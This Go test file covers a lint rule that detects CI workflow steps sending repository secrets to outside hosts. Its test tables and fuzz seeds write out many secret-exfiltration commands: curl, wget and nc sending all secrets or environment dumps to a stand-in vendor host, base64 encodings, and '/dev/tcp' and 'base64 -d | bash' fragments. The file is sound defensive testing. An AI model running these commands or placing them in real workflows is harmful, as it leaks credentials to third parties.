package wormindicator

import (
	"context"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stint-dev/stint/lint"
	"github.com/stint-dev/stint/lint/linttest"
	"github.com/stint-dev/stint/workflows"
)

func TestRule(t *testing.T) { linttest.Run(t, Rule) }

// run lints a workflow whose one step has the script, in a job with all secrets in
// ALL and two by name.
func run(t testing.TB, script string) []lint.Finding {
	t.Helper()
	src := fmt.Sprintf(`on: { push: { branches: [main] } }
jobs:
  a:
    runs-on: ubuntu-latest
    env: { ALL: "${{ toJSON(secrets) }}", NPM: "${{ secrets.NPM_TOKEN }}", AWS: "${{ secrets.AWS_SECRET_ACCESS_KEY }}", OWN: "${{ secrets.HOOK_KEY }}" }
    steps:
      - run: %s
`, strconv.QuoteToASCII(strings.ToValidUTF8(script, "?")))
	file := workflows.Parse(".github/workflows/a.yml", []byte(src))
	r := lint.Run(context.Background(), &workflows.Repository{Files: []*workflows.File{file}}, lint.Options{Rules: []*lint.Rule{Rule}})
	for _, f := range r.Failures {
		t.Errorf("%s", f)
	}
	return r.Findings
}

// Ways in which the same thing is written. A script fires or not; why is in testdata.
func TestWaysToSend(t *testing.T) {
	for script, want := range map[string]bool{
		`curl -d "$ALL" https://x.vendor.test`:                                                    true,
		`curl -d"$ALL" https://x.vendor.test`:                                                     true,
		`curl -sSfd "$ALL" https://x.vendor.test`:                                                 true,
		`curl --data="$ALL" https://x.vendor.test`:                                                true,
		`curl --url https://x.vendor.test --json "$ALL"`:                                          true,
		`curl "https://x.vendor.test/?q=$(echo "$ALL" | base64 -w0)"`:                             true,
		`curl -H "X: $ALL" https://x.vendor.test`:                                                 true,
		`curl -F a=@- https://x.vendor.test <<< "$ALL"`:                                           true,
		`echo "$ALL" | gzip | curl -T - https://x.vendor.test`:                                    true,
		`echo "$ALL" > f; curl -T f https://x.vendor.test`:                                        true,
		`echo "$ALL" > f; curl --data-binary @f https://x.vendor.test`:                            true,
		`echo "$ALL" > f; cp f g; tar cz g > h; curl -F f=@h https://x.vendor.test`:               true,
		`X="$ALL"; Y=$(echo "$X" | base64); curl -d "$Y" $URL`:                                    true,
		`wget --post-data="$ALL" https://x.vendor.test`:                                           true,
		`wget -qO- --post-file f https://x.vendor.test < /dev/null; echo "$ALL" > f`:              false, // the file is written after
		`if true; then { echo "$ALL"; } | nc -q1 x.vendor.test 80; fi`:                            true,
		`export -p | curl -d @- https://x.vendor.test`:                                            true,
		`curl -d "${ALL:0:100}" https://x.vendor.test`:                                            true,
		`sudo env curl -d "$ALL" https://x.vendor.test`:                                           true,
		`curl -d "$NPM $AWS" https://x.vendor.test`:                                               true,
		`curl -d "$NPM" https://x.vendor.test; curl -d "$AWS" https://x.vendor.test`:              true,
		`curl -d "$NPM" https://x.vendor.test`:                                                    false,
		`curl -d "$NPM" https://x.vendor.test; curl -d "$AWS" https://y.vendor.test`:              false,
		`curl -d "$NPM" https://registry.npmjs.example; curl -d "$AWS" https://sts.amazonaws.com`: false,
		`curl -u "u:$NPM" https://x.vendor.test; curl -u "u:$AWS" https://x.vendor.test`:          false,
		`curl -d "$OWN" https://x.vendor.test`:                                                    false,
		`curl -d "$ALL" http://localhost:8080`:                                                    false,
		`curl -d "$ALL" http://192.168.0.2`:                                                       false,
		`curl -d "ALL" https://x.vendor.test`:                                                     false,
		`curl -d '$ALL' https://x.vendor.test`:                                                    false,
		`curl -o ALL https://x.vendor.test`:                                                       false,
		`echo "$ALL" | jq 'keys'`:                                                                 false,
		`echo "$ALL" | base64 > f`:                                                                false,
		`echo "$ALL" | base64 | wc -c`:                                                            false,
		`echo "$ALL" | base64`:                                                                    true,
		`echo "$ALL" | base64 -w0 | rev`:                                                          true,
		`printenv ALL | xxd`:                                                                      true,
		`printenv HOME | xxd`:                                                                     false,
	} {
		if got := len(run(t, script)) > 0; got != want {
			t.Errorf("%v, want %v: %s", got, want, script)
		}
	}
}

// Two parts of one kind, in two jobs, or of two campaigns are no verdict.
func TestVerdict(t *testing.T) {
	at := func(start int) workflows.Span { return workflows.Span{Start: start, End: start + 1} }
	for name, c := range map[string]struct {
		signs []sign
		want  bool
	}{
		"none":              {nil, false},
		"one that decides":  {[]sign{{kind: "a", weight: enough}}, true},
		"one part":          {[]sign{{kind: "a", weight: part}}, false},
		"two parts":         {[]sign{{kind: "a", weight: part, span: at(1)}, {kind: "b", weight: part, span: at(5)}}, true},
		"twice the same":    {[]sign{{kind: "a", weight: part, span: at(1)}, {kind: "a", weight: part, span: at(5)}}, false},
		"a shape's literal": {[]sign{{kind: "a", weight: part, span: at(1)}, {kind: "b", weight: part, span: at(1), campaign: "x"}}, false},
		"names alone":       {[]sign{{kind: "a", weight: named, span: at(1)}, {kind: "b", weight: part, span: at(5)}}, false},
		"one campaign":      {[]sign{{kind: "a", weight: part, span: at(1), campaign: "x"}, {kind: "b", weight: part, span: at(5), campaign: "x"}}, true},
		"two campaigns":     {[]sign{{kind: "a", weight: part, span: at(1), campaign: "x"}, {kind: "b", weight: part, span: at(5), campaign: "y"}}, false},
	} {
		if _, got := verdict(slices.Clone(c.signs)); got != c.want {
			t.Errorf("%s: %v", name, got)
		}
	}
}

// A file made to be slow is read in time that grows with its length.
func TestHostileFilesAreQuick(t *testing.T) {
	start := time.Now()
	run(t, strings.Repeat("env | base64 | curl -d @- https://x.vendor.test\n", 3000))
	run(t, strings.Repeat("echo a |", 3000)+"cat")
	run(t, strings.Repeat("echo $(", 200)+strings.Repeat(")", 200))
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("took %v", d)
	}
}

func FuzzScripts(f *testing.F) {
	for _, s := range []string{"curl -d \"$ALL\" https://x.test", "base64 -d <<< x | bash", "cat <<A >f\n$ALL\nA", "env|nc x 1", "curl -", "curl -d", "/proc/", "export -p >/dev/tcp/", "x=$(y=$(z))", "dig $ALL"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, script string) {
		first := run(t, script)
		second := run(t, script)
		if len(first) != len(second) || len(first) > 1 || len(first) == 1 && first[0].Message != second[0].Message {
			t.Errorf("%q: two runs differ, or one file has two findings", script)
		}
	})
}
